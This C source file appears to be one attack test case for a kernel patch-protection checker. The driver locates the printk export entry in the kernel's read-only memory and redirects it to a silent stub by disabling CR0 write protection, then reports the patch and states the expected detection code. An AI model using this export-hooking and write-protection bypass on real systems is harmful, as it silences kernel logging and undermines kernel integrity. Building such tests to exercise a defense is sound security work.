/* attack_a12 (A12): redirect an export table entry, so drivers loaded later
 * link printk to this driver. Finds the {name, address} pair for printk in
 * the kernel's read-only pages (its own import of printk gives the address
 * to look for) and rewrites the address through CR0.WP=0. Expected: 0x109,
 * type 0xD (import table). */
#include "attack.h"

static void fake_printk(const char *fmt, ...) {}

status_t driver_entry(struct driver_object *drv)
{
	uint64_t want = (uint64_t)&printk;
	uint64_t base = a_kernel_base(), end = a_kernel_end(base);
	for (uint64_t p = base; p < end; p += A_PAGE) {
		if (a_page_class(p) != A_RODATA)
			continue;
		for (uint64_t q = p; q + 16 <= p + A_PAGE; q += 8) {
			uint64_t *e = (uint64_t *)q;
			if (e[1] != want || !a_ptr_ok(e[0] & ~7ull, 8) || strcmp((const char *)e[0], "printk"))
				continue;
			uint64_t hook = (uint64_t)&fake_printk;
			uint64_t pf = a_cli(); /* no pass between the patch and its report */
			a_write_protected(&e[1], &hook, sizeof hook);
			printk("attack_a12: export entry of printk at kernel+0x%lx redirected\n", q - base);
			a_patched("attack_a12");
			a_restore(pf);
			return KPP_STATUS_SUCCESS;
		}
	}
	printk("attack_a12: export entry not found\n");
	return KPP_STATUS_UNSUCCESSFUL;
}
